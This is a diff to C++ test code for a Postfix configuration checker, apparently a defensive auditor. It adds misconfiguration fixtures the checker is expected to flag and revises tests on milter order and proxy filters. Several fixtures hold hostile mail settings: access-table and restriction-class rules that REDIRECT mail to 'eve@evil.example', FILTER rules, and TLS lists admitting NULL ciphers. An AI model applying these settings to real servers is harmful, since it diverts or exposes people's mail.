@@ -57,7 +57,7 @@ const std::vector<Misconfiguration> kMilter{
      [](const PostfixSite& site) {
        site.append("main.cf", "milter_default_action = accept\nsmtpd_milters = unix:pams-milter/pams.sock");
      }},
-    {"a proxy filter takes the content of all mail", "milter",
+    {"a proxy filter takes the content of all mail", "proxy_filter",
      add_to_main("smtpd_proxy_filter = 127.0.0.1:10024")},
     {"another socket", "milter", in_file("main.cf", "pams-milter/pams.sock", "pams-milter/old.sock")},
     {"a listener without milters and without header checks", "milter",
@@ -122,6 +122,22 @@ const std::vector<Misconfiguration> kNet{
                   "pams_milter_header_checks")},
     {"a FILTER of the site in body_checks", "other_filters",
      add_to_main("body_checks = regexp:{{/viagra/ FILTER smtp:[spam.example]}}")},
+    {"an access table redirects mail", "redirects",
+     add_to_main("smtpd_recipient_restrictions = check_client_access static:{REDIRECT eve@evil.example}")},
+    {"a restriction class redirects mail", "redirects",
+     [](const PostfixSite& site) {
+       site.write("access", "bob@example.org REDIRECT eve@evil.example\n");
+       site.append("main.cf", "smtpd_restriction_classes = own\nown = check_recipient_access texthash:" +
+                                  site.folder + "/access\nsmtpd_sender_restrictions = own");
+     }},
+    {"a FILTER inside a union of tables", "other_filters",
+     add_to_main("body_checks = unionmap:{regexp:{{/viagra/ FILTER smtp:[spam.example]}}}")},
+    {"a table whose rules nobody can list", "other_filters", add_to_main("body_checks = tcp:127.0.0.1:1")},
+    {"the net wants a word as value", "header_checks",
+     in_file("pams_header_checks", "*:/ FILTER retry", "*: [a-z]+$/ FILTER retry")},
+    {"the net misses a folded value", "header_checks",
+     in_file("pams_header_checks", "*:/ FILTER retry", "*:[ \\t]*[^ \\t\\n]*$/ FILTER retry")},
+    {"an old milter protocol", "milter_protocol", add_to_main("milter_protocol = 2")},
     {"the postmaster gets whole messages of failed bounces", "notices",
      add_to_main("notify_classes = resource, software, 2bounce")},
     {"no retry service", "retry_service", in_file("master.cf", "retry     unix", "later     unix")},
@@ -159,6 +175,15 @@ const std::vector<Misconfiguration> kTransport{
     {"the authorities' file is gone", "transport", without_file("ca.pem")},
     {"the authorities' file is empty", "transport",
      [](const PostfixSite& site) { site.write("ca.pem", ""); }},
+    {"main.cf calls a NULL cipher high, and no -o against it", "transport",
+     [](const PostfixSite& site) {
+       site.replace("master.cf", "    -o tls_high_cipherlist=HIGH:!aNULL:!eNULL\n", "");
+       site.append("main.cf", "tls_high_cipherlist = eNULL:HIGH");
+     }},
+    {"a primitive that overlaps with the NULL ciphers", "transport",
+     in_transport("HIGH:!aNULL:!eNULL", "HIGH:kRSA")},
+    {"a Postfix that obeys TLS-Required: no", "transport",
+     in_transport("smtp_tls_per_site=", "smtp_tls_per_site=\n    -o tls_required_enable=yes")},
     {"generic maps rewrite addresses", "transport",
      in_transport("smtp_generic_maps=", "smtp_generic_maps=static:x@example.org")},
     {"the marker is sent on", "transport",
@@ -206,19 +231,26 @@ BOOST_AUTO_TEST_CASE(an_accepting_default_does_no_harm_where_our_entry_says_temp
   site.expect_verified();
 }
 
-BOOST_AUTO_TEST_CASE(a_milter_in_front_of_ours_is_a_warning) {
+BOOST_AUTO_TEST_CASE(a_milter_in_front_of_ours_is_a_warning_with_the_line_to_paste) {
   PostfixSite site;
   site.set_up();
   site.replace("main.cf", "smtpd_milters = { unix", "smtpd_milters = inet:localhost:8891, { unix");
-  const auto finding = site.finding("milter");
+  const auto finding = site.finding("milter_order");
   BOOST_TEST((finding.status == CheckStatus::Warn), finding.seen);
+  BOOST_TEST(finding.remedy.find("postconf -e 'smtpd_milters={ unix:") == 0U, finding.remedy);
+  BOOST_TEST((site.finding("milter").status == CheckStatus::Ok));
 }
 
-BOOST_AUTO_TEST_CASE(a_proxy_filter_that_can_hand_mail_to_another_listener_is_a_warning) {
+BOOST_AUTO_TEST_CASE(a_proxy_filter_fails_unless_the_site_says_that_its_mail_comes_back) {
   PostfixSite site;
   site.set_up();
   site.append("master.cf", "submission inet n - y - - smtpd\n  -o smtpd_proxy_filter=127.0.0.1:10024");
-  const auto finding = site.finding("milter");
+  auto finding = site.finding("proxy_filter");
+  BOOST_TEST((finding.status == CheckStatus::Fail), finding.seen);
+  BOOST_TEST(finding.remedy.find("--outbound smtp/inet --outbound pickup") != std::string::npos,
+             finding.remedy);
+  site.set_up({"smtp", "pickup"});
+  finding = site.finding("proxy_filter");
   BOOST_TEST((finding.status == CheckStatus::Warn), finding.seen);
 }
 
